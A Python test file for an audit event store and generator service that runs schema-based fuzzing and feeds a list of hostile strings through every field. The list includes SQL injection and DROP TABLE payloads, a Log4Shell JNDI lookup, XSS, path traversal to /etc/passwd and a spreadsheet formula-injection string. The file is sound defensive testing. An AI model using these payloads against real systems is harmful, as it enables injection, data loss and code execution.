"""Both services hold what their OpenAPI promises, for right and wrong requests, and no input is more than data.

Schemathesis makes requests from the schema and tries to break it; what hurts such services elsewhere is tried by name below.
"""

import subprocess
import uuid
from collections.abc import Callable
from pathlib import Path
from urllib.parse import quote

import pytest
from fastapi.testclient import TestClient

from audit_event_store.api import create_app
from audit_event_store.settings import Settings
from audit_event_store.store import EventStore
from conftest import SRC, Service, an_event


@pytest.mark.parametrize("name", ["audit_event_store", "audit_event_generator"])
def test_the_service_holds_its_schema(serve: Callable[..., Service], tmp_path: Path, name: str) -> None:
    """What a client may send, what it may not, and sequences of requests; a seed makes it the same in each run."""
    store = serve("audit_event_store", AUDIT_STORE_DATABASE_URL=f"sqlite:///{tmp_path}/events.db").until_ready()
    settings = {"AUDIT_GENERATOR_STORE_URL": str(store.http.base_url), "AUDIT_GENERATOR_EVENTS_PER_SECOND": "5"}
    service = store if name == "audit_event_store" else serve(name, **settings).until_ready()
    command = ["schemathesis", "--config-file", str(SRC / "schemathesis.toml"), "run", f"{service.http.base_url}/openapi.json"]
    done = subprocess.run([*command, "--seed", "1", "--no-color"], cwd=tmp_path, capture_output=True, text=True, timeout=300)
    assert done.returncode == 0, done.stdout + done.stderr
    assert "Tested: " in done.stdout
    assert service.stop() == 0
    assert "Traceback" not in service.output()


HOSTILE = [
    "' OR '1'='1",
    "'; DROP TABLE audit_events; --",
    '" OR ""="',
    "1 UNION SELECT fingerprint FROM audit_events",
    "%' OR 1=1 --",
    "%",
    "_",
    "*",
    "\\",
    "\\'",
    "$$; SELECT pg_sleep(10); $$",
    "{{7*7}}",
    "${jndi:ldap://192.0.2.1/a}",
    "%(id)s",
    ":id",
    "?",
    "<script>alert(1)</script>",
    "../../etc/passwd",
    "=cmd|' /C calc'!A0",
    "\u202etxt.exe",
    "İ",
    "x" * 200,
]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_finds_itself_and_nothing_else(store: EventStore, settings: Settings, text: str) -> None:
    with TestClient(create_app(settings, store)) as client:
        fields = {"source": text, "actor__id": text, "resource__type": text, "resource__id": text, "details": {"k": text}}
        for event in (an_event(), an_event(id=str(uuid.uuid4()), **fields)):
            assert client.post("/v1/events", json={"events": [event]}).json()["stored"] == 1
        for name in ("source", "actor_id", "resource_type", "resource_id"):
            [found] = client.get("/v1/events", params={name: text}).json()["events"]
            assert (found["source"], found["actor"]["id"], found["details"]) == (text, text, {"k": text})
            assert len(client.get("/v1/export", params={name: text}).text.split("\n")) == 2
            assert client.get("/v1/events", params={name: text + "x" if len(text) < 200 else "y"}).json()["events"] == []
        assert len(client.get("/v1/events").json()["events"]) == 2
        for path in (quote(text, safe=""), "%2e%2e%2f" * 3):
            assert client.get(f"/v1/events/{path}").status_code in (404, 422)
